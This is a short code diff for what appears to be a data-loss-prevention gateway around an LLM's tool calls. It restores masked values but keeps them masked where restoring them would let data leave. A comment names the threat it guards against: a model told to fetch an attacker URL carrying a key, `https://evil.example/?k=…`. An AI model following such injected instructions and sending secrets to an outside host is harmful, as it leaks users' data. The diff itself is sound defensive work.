@@ -2,7 +2,7 @@ import { createFragmentRestorer, createRestorer } from '../../dlp/index.ts';
 import type { OpenStage, TextStage } from '../../llm/index.ts';
 import { filterText, OutboundStream } from '../../text/index.ts';
 import type { CallState } from './carry-call.ts';
-import { isRemoteTool, leadsElsewhere } from './remote-tools.ts';
+import { isRemoteTool, leadsElsewhere, stringsOf } from './remote-tools.ts';
 
 /** What each text of an answer goes through: fakes become what they stand for, and what would carry data away is defused. */
 export function stagesFor({ gateway, settings }: CallState): OpenStage {
@@ -18,7 +18,8 @@ export function stagesFor({ gateway, settings }: CallState): OpenStage {
         // Attack: a model that is told to fetch `https://evil.example/?k=…`. What the provider runs, or nobody can name, is not local either.
         if (tool === undefined || isRemoteTool(tool, settings)) return undefined;
         const create = kind === 'arguments' ? createFragmentRestorer : createRestorer;
-        return create(gateway.fakes, { keeps: leadsElsewhere });
+        const strings = stringsOf(tool, settings);
+        return create(gateway.fakes, { keeps: (begin) => leadsElsewhere(begin, strings) });
       }
       case 'text': {
         const restorer = createRestorer(gateway.fakes);
